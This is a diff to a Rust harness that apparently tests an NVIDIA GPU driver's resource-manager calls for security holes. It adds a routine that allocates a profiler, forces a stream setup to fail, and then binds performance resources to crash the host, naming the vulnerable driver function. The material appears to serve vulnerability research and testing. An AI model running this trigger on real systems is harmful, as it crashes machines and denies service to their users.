@@ -1,5 +1,6 @@
 // SPDX-License-Identifier: GPL-2.0
-//! The same of calls that an instance needs capabilities for: the attacker's has all of them.
+//! Calls that an instance needs capabilities for, and more holes of the driver in such calls. The
+//! attacker's instance has all capabilities.
 
 use super::{
     attack::attacks,
@@ -41,6 +42,8 @@ attacks! {
         Passes, Gpu, debugger;
     "another's event, as a context for DMA (NV_ESC_RM_ALLOC_CONTEXT_DMA2)": "rmapi_deprecated_misc.c:RmDeprecatedAllocContextDma",
         Passes, Told, event_as_context;
+    "host crash: a profiler bound after a failed stream (BIND_PM_RESOURCES)": "kern_profiler_v2_ctrl.c:profilerBaseCtrlCmdBindPmResources_IMPL",
+        Passes, Gpu, failed_stream;
 }
 
 /// A range of the device's own address space (NV01_MEMORY_VIRTUAL). Branch 550 refuses to map into
@@ -247,4 +250,19 @@ fn event_as_context(a: &Attacker) -> Verdict {
     }
     put_u64(&mut outer, 32, KEY.into());
     a.escape(0x54, &mut outer, 48)
+}
+
+/// A stream of records that is refused for its size.
+fn failed_stream(a: &Attacker) -> Verdict {
+    const PROFILER: u32 = OWN + 1;
+    a.memory(OWN, 4096)?;
+    let made = a.alloc(rm::SUBDEVICE_HANDLE, PROFILER, 0xb2cc, &mut [0; 8]);
+    a.prepare("a profiler", made)?;
+    let mut params = [0; 56];
+    put_u32(&mut params, 0, OWN);
+    put_u32(&mut params, 24, OWN);
+    if a.control(PROFILER, 0xb0cc_0105, &mut params).is_ok() {
+        return a.prepare("a stream that fails", Err("it was made"));
+    }
+    a.control(PROFILER, 0xb0cc_0107, &mut [])
 }
